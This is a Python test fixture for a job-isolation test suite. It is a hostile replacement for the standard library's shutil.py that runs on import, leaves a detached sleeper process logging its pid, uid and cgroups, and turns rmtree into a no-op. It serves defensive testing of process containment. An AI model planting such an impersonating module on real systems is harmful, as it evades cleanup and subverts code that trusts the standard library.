"""A hostile job's shutil.py (tests/integration/test_ssh_to_job_attacks.py).

The job runs ``unshare -Urm`` and bind-mounts this file over the standard library's
shutil.py in its own mount namespace, as any user can. Whatever process imports ``shutil``
in that namespace runs this, as the job's user: it leaves a sleeper behind (setsid, double
fork, so that nothing but a cgroup holds it) that records its pid, uid and cgroups in
``<dir>/hostile-<pid>``, ``<dir>`` being the first line of /run/hostile-out (in the job's
own /run). ``rmtree`` then does nothing, so a directory the importer meant to remove stays.
"""

import os


def _escape() -> None:
    try:
        with open("/run/hostile-out") as f:
            out = f.readline().strip()
    except OSError:
        return
    child = os.fork()
    if child:
        os.waitpid(child, 0)
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        with open("/proc/self/cgroup") as f:
            cgroups = f.read()
        with open(f"{out}/hostile-{os.getpid()}", "w") as f:
            f.write(f"{os.getpid()} {os.getuid()}\n{cgroups}")
        os.execv("/bin/sleep", ["sleep", "1000000"])
    finally:
        os._exit(0)


_escape()


def rmtree(*args: object, **kwargs: object) -> None:
    """Removes nothing."""
